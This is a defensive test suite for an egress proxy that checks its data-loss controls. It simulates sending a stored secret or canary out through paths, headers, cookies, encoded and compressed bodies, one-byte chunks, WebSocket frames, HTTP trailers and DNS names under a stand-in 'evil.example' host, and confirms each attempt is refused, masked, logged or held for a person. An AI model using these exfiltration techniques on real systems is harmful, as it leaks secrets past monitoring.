import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import http2 from 'node:http2';
import path from 'node:path';
import tls from 'node:tls';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Route } from '../../src/core/index.ts';
import { NAME, Rig, secureRoute } from './egress-harness.ts';

const SECRET = 'vault-value/0123456789+abc';
const HEX_SECRET = Buffer.from(SECRET).toString('hex');
const CANARY = 'bkp0123456789abcdef0123456789abcdef';
const HEX = Buffer.from(CANARY).toString('hex');
const WEBSOCKET = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: x'].flatMap((field) => ['-H', field]);
const GITHUB_TOKEN = `ghp_${'a1B2'.repeat(9)}`;

let rig: Rig;

beforeEach(async () => {
  rig = await Rig.open();
  rig.watched = [{ kind: 'secret', name: 'bank', value: SECRET }];
});
afterEach(async () => {
  await rig[Symbol.asyncDispose]();
});

const url = (rest = '/'): string => `https://${NAME}:${rig.httpsPort}${rest}`;
const route = (r: Rig, dataLoss?: Route['dataLoss']): Route => secureRoute(r, dataLoss === undefined ? {} : { dataLoss });
const start = async (dataLoss?: Route['dataLoss']): Promise<unknown> => await rig.start((r) => [route(r, dataLoss)]);

async function send(body: Buffer | string, ...args: string[]): Promise<{ readonly status: number; readonly text: string }> {
  const file = path.join(rig.dir, 'body');
  await writeFile(file, body);
  return await rig.curl(url('/upload'), '-D', '-', '--data-binary', `@${file}`, '-H', 'content-type: application/octet-stream', ...args);
}

/** The server got the end of no request. */
const refused = (reason: string) => ({ status: 403, text: expect.stringContaining(`x-terok-refused: ${reason}`) });

describe('the value of a stored secret', () => {
  test('goes out where nothing is watched: the attacks below are real', async () => {
    rig.watched = [];
    await start();
    expect((await send(`a${SECRET}b`)).status).toBe(200);
    expect((await rig.curl(url(`/${encodeURIComponent(SECRET)}`))).status).toBe(200);
    expect(rig.seen[0]?.body.toString()).toContain(SECRET);
  });

  test.each<[string, (rig: Rig) => Promise<{ readonly status: number; readonly text: string }>]>([
    ['the path', (r) => r.curl(url(`/${encodeURIComponent(SECRET)}`), '-D', '-')],
    ['the path, some of it percent-encoded', (r) => r.curl(url(`/%76ault-value%2F0123456789%2Babc`), '-D', '-')],
    ['the query', (r) => r.curl(url(`/?q=${Buffer.from(`x${SECRET}`).toString('base64url')}`), '-D', '-')],
    ['a header', (r) => r.curl(url(), '-D', '-', '-H', `x-note: ${SECRET}`)],
    ['the name of a header', (r) => r.curl(url(), '-D', '-', '-H', `${Buffer.from(SECRET).toString('hex')}: 1`)],
    ['a cookie', (r) => r.curl(url(), '-D', '-', '-b', `s=${Buffer.from(SECRET).toString('hex')}`)],
    ['Basic', (r) => r.curl(url(), '-D', '-', '-u', `me:${SECRET}`)],
    ['HTTP/2', (r) => r.curl(url(), '--http2', '-D', '-', '-H', `x-note: ${SECRET}`)],
  ])('does not leave in %s', async (_where, attack) => {
    await start();
    expect(await attack(rig)).toMatchObject(refused('data-loss'));
    expect(rig.seen).toHaveLength(0);
    const line = (await rig.audit()).find(({ kind }) => kind === 'data-loss');
    expect(line).toMatchObject({ decision: 'deny', host: NAME, detail: expect.stringContaining('block: the value of the secret `bank`') });
    expect(JSON.stringify(await rig.audit())).not.toContain(SECRET);
  });

  test.each<[string, Buffer | string, readonly string[]]>([
    ['as it is', `a${SECRET}b`, []],
    ['in base64', Buffer.from(`xy${SECRET}`).toString('base64'), []],
    ['in hex', Buffer.from(SECRET).toString('hex'), []],
    ['at the end of much else', Buffer.concat([randomBytes(3_000_000), Buffer.from(SECRET)]), []],
    ['compressed with gzip', gzipSync(SECRET), ['-H', 'content-encoding: gzip']],
    ['compressed with deflate', deflateSync(SECRET), ['-H', 'content-encoding: deflate']],
    ['compressed with brotli', brotliCompressSync(SECRET), ['-H', 'content-encoding: br']],
    ['compressed with zstd', zstdCompressSync(SECRET), ['-H', 'content-encoding: zstd']],
    ['compressed twice', gzipSync(brotliCompressSync(SECRET)), ['-H', 'content-encoding: br, gzip']],
    ['without a length', `a${SECRET}b`, ['-H', 'transfer-encoding: chunked']],
  ])('does not leave in a body, %s', async (_how, body, args) => {
    await start();
    expect(await send(body, ...args)).toMatchObject(refused('data-loss'));
    expect(rig.seen).toHaveLength(0);
  });

  test('does not leave in pieces of one byte', async () => {
    await start();
    const client = await connect();
    client.write(`POST / HTTP/1.1\r\nHost: ${NAME}:${rig.httpsPort}\r\nTransfer-Encoding: chunked\r\n\r\n`);
    for (const character of SECRET) {
      if (!client.writable) break;
      client.write(`1\r\n${character}\r\n`);
      await new Promise((resolve) => setTimeout(resolve, 2));
    }
    client.write('0\r\n\r\n');
    const [answer] = (await once(client, 'data')) as [Buffer];
    expect(answer.toString()).toContain('x-terok-refused: data-loss');
    expect(rig.seen).toHaveLength(0);
  });

  test('is masked where the route says so, and the length stays', async () => {
    await start({ secrets: 'redact' });
    expect((await send(`a${SECRET}b`, '-H', `x-note: n${SECRET}`)).status).toBe(200);
    expect(rig.seen[0]?.body.toString()).toBe(`a${'*'.repeat(SECRET.length)}b`);
    expect(rig.seen[0]?.headers['x-note']).toBe(`n${'*'.repeat(SECRET.length)}`);
  });

  test.each(['--http1.1', '--http2'])('is masked in path and query, and in a compressed body, too (%s)', async (version) => {
    await start({ secrets: 'redact' });
    expect((await rig.curl(url(`/${HEX_SECRET}?q=${HEX_SECRET}`), version)).status).toBe(200);
    expect(rig.seen[0]?.url).toBe(`/${'*'.repeat(HEX_SECRET.length)}?q=${'*'.repeat(HEX_SECRET.length)}`);
    expect((await send(gzipSync(`a${SECRET}b`), version, '-H', 'content-encoding: gzip')).status).toBe(200);
    expect(rig.seen[1]?.body.toString()).toBe(`a${'*'.repeat(SECRET.length)}b`);
  });

  test('is only recorded where the route says so', async () => {
    await start({ secrets: 'log' });
    expect((await send(`a${SECRET}b`)).status).toBe(200);
    expect(rig.seen[0]?.body.toString()).toBe(`a${SECRET}b`);
    expect(await rig.audit()).toContainEqual(expect.objectContaining({ kind: 'data-loss', decision: 'allow' }));
  });

  test('waits for a person where the route says so; a yes holds for the next try', async () => {
    await start({ secrets: 'ask' });
    const asked = send(SECRET);
    await expect.poll(() => rig.egress.questions.list().length).toBe(1);
    const [question] = rig.egress.questions.list();
    expect(question).toMatchObject({ host: NAME, method: 'POST', found: 'the value of the secret `bank`' });
    expect(rig.seen).toHaveLength(0);
    expect(rig.egress.questions.answer(question?.id ?? '', false)).toBe(true);
    expect(await asked).toMatchObject(refused('data-loss-refused'));
    const again = send(SECRET);
    await expect.poll(() => rig.egress.questions.list().length).toBe(1);
    rig.egress.questions.answer(rig.egress.questions.list()[0]?.id ?? '', true);
    expect((await again).status).toBe(200);
    expect((await send(SECRET)).status).toBe(200);
    expect(rig.seen).toHaveLength(2);
    expect(rig.egress.questions.answer('000000', true)).toBe(false);
  });

  test('does not leave over a WebSocket, in one frame or in frames of one byte with pings between them', async () => {
    await start();
    const received: Buffer[] = [];
    rig.onUpgrade = (request, socket) => {
      const accept = createHash('sha1')
        .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest('base64');
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
      );
      socket.on('data', (chunk: Buffer) => received.push(chunk)).on('error', () => socket.destroy());
    };
    const pieces = Array.from(SECRET).flatMap((character, at) => [
      frame(at === 0 ? 1 : 0, at === SECRET.length - 1, character),
      frame(9, true, 'ping'),
    ]);
    for (const frames of [[frame(1, true, `hello ${SECRET}`)], pieces]) {
      received.length = 0;
      const client = await openWebSocket();
      client.write(frame(1, true, 'hello'));
      await expect.poll(() => payloadOf(received)).toBe('hello');
      for (const piece of frames) if (client.writable) client.write(piece);
      await once(client, 'close');
      expect(payloadOf(received)).not.toContain(SECRET.slice(0, 8));
    }
  });

  test.each([true, false])('follows a body as a trailer of HTTP/2 only where that is allowed (%s)', async (isAllowed) => {
    let trailers: unknown;
    rig.handler = (request, response) => {
      trailers = request.trailers;
      response.end('ok');
    };
    await start({ secrets: isAllowed ? 'log' : 'block' });
    const door = await rig.door(NAME, rig.httpsPort);
    const socket = tls.connect({ host: '127.0.0.1', port: door, servername: NAME, ca: rig.ca.certificatePem, ALPNProtocols: ['h2'] });
    await once(socket, 'secureConnect');
    const session = http2.connect(url(), { createConnection: () => socket });
    const head = { ':method': 'POST', ':path': '/', ':authority': `${NAME}:${rig.httpsPort}` };
    const stream = session.request(head, { waitForTrailers: true });
    stream.once('wantTrailers', () => stream.sendTrailers({ 'x-sum': '1', 'x-note': SECRET }));
    stream.resume().end('body');
    await once(stream, 'close');
    session.destroy();
    expect(trailers).toEqual(isAllowed ? { 'x-sum': '1', 'x-note': SECRET } : { 'x-sum': '1' });
    expect((await rig.audit()).filter(({ kind }) => kind === 'data-loss')).toMatchObject([{ decision: isAllowed ? 'allow' : 'deny' }]);
  });

  test('does not follow a body as a trailer, and the log says so', async () => {
    rig.canary = CANARY;
    let trailers: unknown;
    rig.handler = (request, response) => {
      trailers = request.trailers;
      response.end('ok');
    };
    const ask = async (value: string): Promise<unknown> => {
      trailers = undefined;
      const client = await connect();
      client.write(`POST / HTTP/1.1\r\nHost: ${NAME}:${rig.httpsPort}\r\nTransfer-Encoding: chunked\r\n\r\n`);
      client.write(`1\r\nx\r\n0\r\nx-sum: 1\r\nx-note: ${value}\r\n\r\n`);
      await once(client, 'data');
      client.destroy();
      return trailers;
    };
    await start({ secrets: 'log' });
    expect(await ask(SECRET)).toEqual({ 'x-sum': '1', 'x-note': SECRET });
    rig.egress.setPolicy(rig.policy([route(rig, { detectors: 'block' })]));
    for (const [value, found] of [
      [SECRET, 'the value of the secret `bank`'],
      [GITHUB_TOKEN, 'looks like a credential'],
    ] as const) {
      expect(await ask(value)).toEqual({ 'x-sum': '1' });
      const denied = (await rig.audit()).filter(({ kind, decision }) => kind === 'data-loss' && decision === 'deny');
      expect(denied.at(-1)).toMatchObject({ detail: expect.stringContaining(found) });
    }
    await ask(CANARY);
    expect((await rig.curl(url(), '-D', '-')).text).toContain('x-terok-refused: canary-seen');
  });

  test('is found as soon as it is stored', async () => {
    rig.watched = [];
    await start();
    expect((await send('another-secret-value')).status).toBe(200);
    rig.watched = [{ kind: 'secret', name: 'new', value: 'another-secret-value' }];
    await expect.poll(async () => (await send('another-secret-value')).status, { timeout: 6_000, interval: 500 }).toBe(403);
  });
});

test('the value of a stored secret is not in the audit log, wherever a bottle puts it', async () => {
  const value = 'StolenValue0123456789';
  rig.watched = [{ kind: 'secret', name: 'bank', value }];
  await start();
  const name = `${value}.evil.example`;
  const proxy = viaProxy();
  for (const ask of [
    () => rig.rawCurl(`http://${name}/`, ...proxy),
    () => rig.rawCurl(`https://${name}/`, ...proxy),
    () => rig.rawCurl(`http://1.2.3.4:${rig.httpPort}/`, '--request-target', `http://${value}@x/`, ...proxy),
    () => rig.curl(url(`/${value}`)),
    async () => void rig.egress.audit.record({ kind: 'dns', decision: 'deny', target: name.toLowerCase() }),
  ]) {
    const before = (await rig.audit()).length;
    await ask();
    const written = (await rig.audit()).slice(before);
    expect(written.length).toBeGreaterThan(0);
    expect(JSON.stringify(written).toLowerCase()).not.toContain(value.toLowerCase());
  }
  expect(await rig.audit()).toContainEqual(expect.objectContaining({ host: `${'*'.repeat(value.length)}.evil.example` }));
});

describe('a body that cannot be looked at', () => {
  test.each<[string, Buffer, string]>([
    ['an unknown encoding', Buffer.from('x'), 'compress'],
    ['too many encodings', Buffer.from('x'), 'gzip, gzip, gzip, gzip'],
    ['an encoding that is a lie', Buffer.from('not gzip'), 'gzip'],
    ['a bomb', gzipSync(Buffer.alloc(64 * 1024 * 1024)), 'gzip'],
    ['a bomb in a bomb', gzipSync(gzipSync(Buffer.alloc(256 * 1024 * 1024))), 'gzip, gzip'],
  ])('is refused: %s', async (_what, body, encoding) => {
    await start();
    const result = await send(body, '-H', `content-encoding: ${encoding}`);
    expect(result).toMatchObject({ status: 415, text: expect.stringContaining('encoding-unknown') });
    expect(rig.seen).toHaveLength(0);
  });

  test('an honest compressed body arrives as it was before', async () => {
    await start();
    const text = JSON.stringify({ text: 'hello '.repeat(50_000) });
    expect((await send(gzipSync(text), '-H', 'content-encoding: gzip')).status).toBe(200);
    expect(rig.seen[0]?.headers['content-encoding']).toBeUndefined();
    expect(rig.seen[0]?.body.toString()).toBe(text);
  });
});

describe('what looks like a credential', () => {
  test('passes where the route does not ask', async () => {
    await start();
    expect((await send(GITHUB_TOKEN)).status).toBe(200);
  });

  test('is refused, masked or recorded as the route says', async () => {
    await start({ detectors: 'block' });
    expect(await send(`token = ${GITHUB_TOKEN}\n`)).toMatchObject(refused('data-loss'));
    expect(await rig.curl(url(), '-D', '-', '-H', `x-note: ${GITHUB_TOKEN}`)).toMatchObject({ status: 403 });
    rig.egress.setPolicy(rig.policy([route(rig, { detectors: 'redact' })]));
    expect((await send(`token = ${GITHUB_TOKEN}\n`)).status).toBe(200);
    expect(rig.seen.at(-1)?.body.toString()).toBe(`token = ${'*'.repeat(GITHUB_TOKEN.length)}\n`);
    rig.egress.setPolicy(rig.policy([route(rig, { detectors: 'log' })]));
    expect((await send(`token = ${GITHUB_TOKEN}\n`)).status).toBe(200);
    expect(rig.seen.at(-1)?.body.toString()).toContain(GITHUB_TOKEN);
    expect(JSON.stringify(await rig.audit())).not.toContain(GITHUB_TOKEN);
    rig.egress.setPolicy(rig.policy([route(rig, { detectors: 'ask' })]));
    const asked = send(`token = ${GITHUB_TOKEN}\n`);
    await expect.poll(() => rig.egress.questions.list().length).toBe(1);
    rig.egress.questions.answer(rig.egress.questions.list()[0]?.id ?? '', false);
    expect(await asked).toMatchObject(refused('data-loss-refused'));
  });
});

describe('the canary of a bottle', () => {
  test.each<[string, () => Promise<unknown>]>([
    ['in a body', () => send(`x${CANARY}`)],
    ['in a header, encoded', () => rig.curl(url(), '-H', `x-note: ${Buffer.from(CANARY).toString('base64')}`)],
    ['as a name', async () => rig.egress.nameAllowed(`${CANARY}.evil.example`)],
    ['as the labels of a name, encoded', async () => rig.egress.nameAllowed(`${HEX.slice(0, 40)}.${HEX.slice(40)}.evil.example`)],
    ['as the name of another host', () => rig.curl(url(), '-H', `Host: ${CANARY}.evil.example`)],
    ['in a header of a request that is refused', () => rig.curl(`https://${NAME}:8443/`, '-H', `x-note: ${CANARY}`)],
    ['in the path of a WebSocket that is refused', () => rig.curl(`https://${NAME}:8443/${CANARY}`, '--http1.1', ...WEBSOCKET)],
    ['as a name for TLS', async () => void tls.connect({ ...(await doorOf()), servername: `${CANARY}.evil.example` }).on('error', () => 0)],
    ['beside a tunnel to what is no name', () => rig.rawCurl('https://1.2.3.4/', ...viaProxy(), '--proxy-header', `x-note: ${CANARY}`)],
    ['as a name in an absolute form', () => rig.rawCurl(`http://${CANARY}.evil.example/`, '-x', `http://127.0.0.1:${rig.proxyPort}`)],
    ['as a name for the proxy', () => rig.rawCurl(`https://${CANARY}.evil.example/`, '-x', `http://127.0.0.1:${rig.proxyPort}`)],
  ])('%s stops everything that leaves it, also after a restart, until a person lets it go on', async (_where, attack) => {
    rig.canary = CANARY;
    await start({ secrets: 'log' });
    expect((await rig.curl(url())).status).toBe(200);
    await attack();
    await expect.poll(() => existsSync(path.join(rig.dir, 'canary-seen.json'))).toBe(true);
    const stopped = { status: 403, text: expect.stringContaining('terok egress resume') };
    expect(await rig.curl(url(), '-D', '-')).toMatchObject(stopped);
    expect(await rig.audit()).toContainEqual(expect.objectContaining({ kind: 'data-loss', reason: 'canary-seen', decision: 'deny' }));
    expect(rig.seen).toHaveLength(1);
    await rig.egress.close();
    await start({ secrets: 'log' });
    expect(await rig.curl(url(), '-D', '-')).toMatchObject(stopped);
    rig.egress.resume();
    expect((await rig.curl(url())).status).toBe(200);
  });

  test('is marked with the rule by which it would have left', async () => {
    rig.canary = CANARY;
    await start();
    await send(CANARY);
    expect(JSON.parse(readFileSync(path.join(rig.dir, 'canary-seen.json'), 'utf8'))).toMatchObject({ host: NAME, rule: 'api' });
  });

  test('cuts what runs', async () => {
    rig.canary = CANARY;
    await start();
    rig.handler = (_request, response) => void response.writeHead(200).write('first');
    const client = await connect();
    client.write(`GET / HTTP/1.1\r\nHost: ${NAME}:${rig.httpsPort}\r\n\r\n`);
    await once(client, 'data');
    expect((await send(CANARY)).status).toBe(403);
    await once(client, 'close');
  });
});

function frame(opcode: number, isLast: boolean, text: string): Buffer {
  const mask = randomBytes(4);
  const payload = Buffer.from(text);
  return Buffer.concat([
    Buffer.of((isLast ? 0x80 : 0) | opcode, 0x80 | payload.length),
    mask,
    payload.map((byte, at) => byte ^ (mask[at & 3] ?? 0)),
  ]);
}

/** The payload of short masked frames, without that of control frames. */
function payloadOf(chunks: readonly Buffer[]): string {
  const bytes = Buffer.concat(chunks);
  let text = '';
  for (let at = 0; at + 6 <= bytes.length; ) {
    const length = (bytes[at + 1] ?? 0) & 0x7f;
    const mask = bytes.subarray(at + 2, at + 6);
    const payload = bytes.subarray(at + 6, at + 6 + length).map((byte, index) => byte ^ (mask[index & 3] ?? 0));
    if (((bytes[at] ?? 0) & 0x08) === 0) text += Buffer.from(payload).toString();
    at += 6 + length;
  }
  return text;
}

async function openWebSocket(): Promise<tls.TLSSocket> {
  const client = await connect();
  client.write(
    `GET / HTTP/1.1\r\nHost: ${NAME}:${rig.httpsPort}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
  );
  await once(client, 'data');
  return client;
}

const viaProxy = (): string[] => ['-x', `http://127.0.0.1:${rig.proxyPort}`];

async function doorOf(): Promise<tls.ConnectionOptions> {
  return { host: '127.0.0.1', port: await rig.door(NAME, rig.httpsPort) };
}

async function connect(): Promise<tls.TLSSocket> {
  const socket = tls.connect({ host: '127.0.0.1', port: await rig.door(NAME, rig.httpsPort), servername: NAME, ca: rig.ca.certificatePem });
  socket.on('error', () => socket.destroy());
  await once(socket, 'secureConnect');
  return socket;
}
